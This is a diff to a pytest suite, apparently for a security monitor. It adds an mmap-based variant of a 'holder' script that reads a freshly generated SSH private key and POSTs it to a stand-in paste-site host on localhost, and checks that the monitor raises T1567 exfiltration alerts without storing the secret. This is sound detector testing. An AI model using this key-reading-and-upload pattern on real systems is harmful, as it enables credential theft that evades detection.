@@ -325,7 +325,10 @@ s = connect() if early else None
 print("ready", flush=True)
 sys.stdin.readline()
 data = b""
-while chunk := os.read(fd, 4096):
+if sys.argv[3] == "mmap":  # no read(2): the mapping of the old fd
+    import mmap
+    data = bytes(mmap.mmap(fd, 0, prot=mmap.PROT_READ))
+while sys.argv[3] == "read" and (chunk := os.read(fd, 4096)):
     data += chunk
 s = s or connect()
 s.sendall(b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n"
@@ -336,10 +339,10 @@ print("done", flush=True)
 """
 
 
-def start_holder(tmp_path, fake_home, path, connection):
+def start_holder(tmp_path, fake_home, path, connection, method="read"):
     script = tmp_path / "holder"
     script.write_text(HOLDER.format(port=HTTPS_PORT, paste=PASTE))
-    holder = subprocess.Popen([str(PY), str(script), str(path), connection], env=fake_home.env(),
+    holder = subprocess.Popen([str(PY), str(script), str(path), connection, method], env=fake_home.env(),
                               stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
                               start_new_session=True)
     assert holder.stdout.readline().strip() == "ready"
@@ -364,8 +367,11 @@ def held_alerts(monitor, holder, technique):
     return found
 
 
-@pytest.mark.parametrize("connection,technique", [("late", "T1567.003"), ("early", "T1567")])
-def test_key_opened_before_the_monitor_started(tmp_path, fake_home, standin, connection, technique):
+@pytest.mark.parametrize("connection,method,technique", [("late", "read", "T1567.003"),
+                                                         ("late", "mmap", "T1567.003"),
+                                                         ("early", "read", "T1567")])
+def test_key_opened_before_the_monitor_started(tmp_path, fake_home, standin, connection, method,
+                                               technique):
     # late: connected after the start, so the flow is named by its SNI; early: connected (TLS
     # handshake and all) before the start, so the adopted flow has no name the monitor saw, only
     # its address: T1567 with destination.ip. With no name, no upload command and no content
@@ -377,7 +383,7 @@ def test_key_opened_before_the_monitor_started(tmp_path, fake_home, standin, con
         key = fake_home.path / ".ssh" / "id_rsa"
         subprocess.run(["ssh-keygen", "-q", "-t", "rsa", "-b", "3072", "-N", "", "-f", str(key)],
                        check=True)
-    holder = start_holder(tmp_path, fake_home, key, connection)
+    holder = start_holder(tmp_path, fake_home, key, connection, method)
     try:
         with Monitor(tmp_path / "monitor") as monitor:
             release(holder)
@@ -391,6 +397,8 @@ def test_key_opened_before_the_monitor_started(tmp_path, fake_home, standin, con
             assert all(get(r, "destination.ip") == "127.0.0.1" for r in found)
             if connection == "late":
                 assert any(get(r, "destination.domain") == PASTE for r in found)
+            if method == "mmap":
+                file_mapped(monitor.records(), key, "python")
             assert_no_secret(monitor, key)
     finally:
         if holder.poll() is None:
@@ -403,7 +411,7 @@ def test_connection_opened_before_the_key_read(monitor, standin, fake_home, tmp_
     script = tmp_path / "holder"
     script.write_text(HOLDER.format(port=HTTPS_PORT, paste=PASTE))
     dataflow_attack(monitor, standin, fake_home, tmp_path, "connection-first",
-                    f"echo go | {PY} {script} {key} early")
+                    f"echo go | {PY} {script} {key} early read")
     assert_no_secret(monitor, key)
 
 
